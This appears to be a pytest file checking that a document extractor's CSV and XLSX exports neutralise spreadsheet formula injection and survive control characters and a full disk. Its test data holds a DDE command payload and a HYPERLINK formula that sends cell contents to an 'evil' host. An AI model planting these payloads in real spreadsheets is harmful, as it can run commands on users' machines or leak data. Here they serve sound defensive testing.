"""Issue 9, the outputs: what a notice says can never run in a spreadsheet or break the file (items 2, 3
and the full disk of item 12)."""

from __future__ import annotations

import csv
import errno
import io
import sys
from pathlib import Path

import openpyxl
import pytest

from extractor.batch import ErrorInfo, Failure
from extractor.models import Extraction, Issue
from extractor.output import write
from extractor.output.flat import FORMULA_TRIGGERS

FORMULAS = [
    "=cmd|' /C calc'!A0问题整改不到位",
    '=HYPERLINK("http://evil/?"&A1,"点击")',
    "+1+2问题",
    "-1+2问题",
    "@SUM(A1)问题",
]


def hostile_extraction() -> Extraction:
    issues = [
        Issue(
            id=str(n),
            problem=text,
            category='=HYPERLINK("http://evil/?"&A1,"点击")',
            measures=[text, "措施"],
            span=(0, 1),
        )
        for n, text in enumerate(FORMULAS, 1)
    ]
    return Extraction(source="=evil.txt", issues=issues, warnings=["=1+1"])


def hostile_failure() -> Failure:
    return Failure(source="=bad.txt", error=ErrorInfo(type="InputError", message='=HYPERLINK("x")'))


def test_no_csv_cell_starts_with_a_formula_character() -> None:
    out = io.StringIO()
    write([hostile_extraction()], "csv", out)
    rows = list(csv.reader(io.StringIO(out.getvalue().removeprefix("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells and not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    assert "'=cmd|' /C calc'!A0问题整改不到位" in cells


def test_no_xlsx_cell_is_a_formula_and_the_text_is_kept_as_written(tmp_path: Path) -> None:
    write([hostile_extraction(), hostile_failure()], "xlsx", tmp_path / "l.xlsx")
    workbook = openpyxl.load_workbook(tmp_path / "l.xlsx")
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    assert set(FORMULAS) <= values and '=HYPERLINK("http://evil/?"&A1,"点击")' in values and "=bad.txt" in values


def test_noncharacters_and_controls_in_the_text_do_not_break_the_xlsx(tmp_path: Path) -> None:
    issue = Issue(id="1", problem="问题\ufffe一\uffff二\x01三\ud800", cause="原因\x1b[31m", span=(0, 3))
    write([Extraction(source="a\uffff.txt", issues=[issue])], "xlsx", tmp_path / "l.xlsx")
    ledger = openpyxl.load_workbook(tmp_path / "l.xlsx")["整改台账"]
    assert ledger["D2"].value == "问题一二三" and ledger["B2"].value == "a.txt"


class FullDisk(io.RawIOBase):
    """A stream on a full disk: every write fails with ENOSPC."""

    def writable(self) -> bool:
        return True

    def write(self, data) -> int:
        raise OSError(errno.ENOSPC, "No space left on device")


def test_a_full_disk_while_writing_xlsx_is_one_oserror_and_nothing_else(monkeypatch) -> None:
    unraisable: list[object] = []
    monkeypatch.setattr(sys, "unraisablehook", unraisable.append)
    with pytest.raises(OSError, match="No space left"):
        write([hostile_extraction()], "xlsx", FullDisk())
    import gc

    gc.collect()
    assert unraisable == []
